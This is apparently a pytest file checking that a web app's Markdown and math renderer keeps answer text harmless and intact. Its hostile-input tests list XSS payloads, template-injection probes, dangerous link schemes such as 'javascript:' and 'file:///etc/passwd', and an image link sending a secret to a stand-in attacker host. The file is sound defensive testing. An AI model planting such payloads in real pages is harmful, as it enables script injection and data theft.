"""Answer text becomes nodes: what is markup stays harmless, what is text is never lost."""

import json

import pytest

from webapp.prose import _MATHML_TAGS, _SIMPLE, MAX_FORMULA, MAX_MARKDOWN, clean, prose

ALLOWED = set(_SIMPLE.values()) | _MATHML_TAGS | {"h3", "h4", "h5", "h6", "ol", "pre", "code", "a"}


def text_of(nodes):
    return "".join(node if isinstance(node, str) else text_of(node[2:]) for node in nodes)


def tags_of(nodes):
    return {tag for node in nodes if not isinstance(node, str) for tag in ({node[0]} | tags_of(node[2:]))}


def links_of(nodes):
    found = []
    for node in nodes:
        if not isinstance(node, str):
            found += ([node[1].get("href")] if node[0] == "a" else []) + links_of(node[2:])
    return found


def test_markdown_is_laid_out():
    nodes = prose("# Title\n\nSome **bold** and `code`.\n\n1. one\n2. two\n\n| a | b |\n|---|---|\n| 1 | 2 |")
    assert {"h3", "strong", "code", "ol", "li", "table", "td"} <= tags_of(nodes)
    assert nodes[0] == ["h3", {}, "Title"]


@pytest.mark.parametrize(
    "hostile",
    [
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        "${window.x=1} and $ {y}",
        "<style>body{display:none}</style>",
        "{{7*7}} <svg/onload=alert(1)>",
        "![alt text](https://evil.example/p?q=secret)",
    ],
)
def test_markup_stays_text_to_the_letter(hostile):
    nodes = prose(hostile)
    assert text_of(nodes) == hostile
    assert tags_of(nodes) == {"p"}


@pytest.mark.parametrize(
    "address", ["javascript:alert(1)", "data:text/html,x", "vbscript:x", "file:///etc/passwd", "/x"]
)
def test_only_web_addresses_become_links(address):
    nodes = prose(f"[press me]({address})")
    assert links_of(nodes) == []
    assert "press me" in text_of(nodes) and address in text_of(nodes)


def test_a_web_address_is_a_link():
    assert links_of(prose("[page](https://example.org/a?b=1)")) == ["https://example.org/a?b=1"]


def test_mathematics_of_each_notation():
    for source in ("$x^2$", "\\(x^2\\)", "$$x^2$$", "\\[x^2\\]"):
        assert "msup" in tags_of(prose(source)), source
    assert "mfrac" in tags_of(prose("$$\\frac{1}{2}$$"))


def test_money_is_not_mathematics():
    assert tags_of(prose("It costs $5 today and $6 tomorrow.")) == {"p"}


@pytest.mark.parametrize("broken", ["$\\frac{$", "$$\\begin{matrix} 1$$", "$\\left( x$", f"${'x+' * MAX_FORMULA}x$"])
def test_a_broken_formula_is_shown_as_it_was_written(broken):
    assert broken.strip("$")[:40] in text_of(prose(broken)).replace("\n", "")


def test_no_tag_outside_the_list_and_everything_is_json():
    wild = (
        "> " * 60 + "deep\n" + "- " * 40 + "deep\n\n" + "**" * 500 + "\n\n" + "[" * 2000 + "\n\n$\\text{<b>}$ `\u202e`"
    )
    nodes = prose(wild)
    assert tags_of(nodes) <= ALLOWED
    json.dumps(nodes)


def test_a_very_long_text_is_shown_plain():
    text = "*a* " * (MAX_MARKDOWN // 4 + 1)
    assert prose(text) == [["pre", {}, text]]


def test_half_characters_are_replaced():
    assert clean("a\ud83db") == "a\ufffdb"
    json.dumps(prose("\ud800 x")).encode()
    assert "\x00" not in text_of(prose("a\x00b"))  # Markdown replaces NUL itself


def nested(opening, closing, times=150):
    return f"Here: ${opening * times}b{closing * times}$"


DEEP = [
    nested("\\frac{a}{", "}"),
    nested("\\sqrt{", "}"),
    nested("{", "}", 400),
    ">" * 300 + " deep",
    "- " * 300 + "deep",
    "1. " * 300 + "deep",
    "\n".join("  " * n + "- deep" for n in range(150)),
    "*" * 400 + "deep" + "*" * 400,
    "_*" * 200 + "deep" + "*_" * 200,
    "[" * 300 + "deep" + "](http://x)" * 300,
    "> " * 30 + "$" + "\\sqrt{" * 17 + "deep" + "}" * 17 + "$",
]


@pytest.mark.parametrize("answer", DEEP)
def test_deep_nesting_reaches_the_page_and_loses_nothing(answer):
    import orjson  # what Gradio writes every value with; it refuses more than 254 levels

    from core.types import Role, Status, Turn, Usage
    from webapp.asked import Asked
    from webapp.live import LiveTurn
    from webapp.timeline import timeline
    from webapp.view import chat

    turn = Turn(1, Role.WORKER, "a", 1, "m", answer)
    asked = Asked(
        "q", answer, (LiveTurn(1, 0.0, turn=turn),), Status.UNVERIFIED, None, "", answer, Usage(), 0.0, 1.0, "head"
    )
    value = {"msg": "process_generating", "output": {"data": [chat("en", "c", [("q", asked)]), timeline(asked, "en")]}}
    assert orjson.loads(orjson.dumps(value, option=orjson.OPT_SERIALIZE_NUMPY))
    shown = text_of(prose(answer))
    assert shown.count("deep") == answer.count("deep") and ("deep" in shown or "b" in shown)


def test_what_nests_too_deep_is_shown_as_it_was_written_and_the_rest_as_usual():
    quote = ">" * 300 + " deep"
    assert prose(f"# a\n\n{quote}\n\nb *c*")[:2] == [["h3", {}, "a"], ["pre", {}, quote]]
    assert "em" in tags_of(prose(f"# a\n\n{quote}\n\nb *c*"))
    formula = "\\frac{a}{" * 150 + "b" + "}" * 150
    assert prose(f"so ${formula}$") == [["p", {}, "so ", ["code", {}, formula]]]


def test_definitions_of_links_are_shown():
    for answer in ("[a]: http://x", "See [a].\n\n[a]: http://x 'title'\n[b]: <y>"):
        assert text_of(prose(answer)).replace("\n", "") == answer.replace("\n", "")
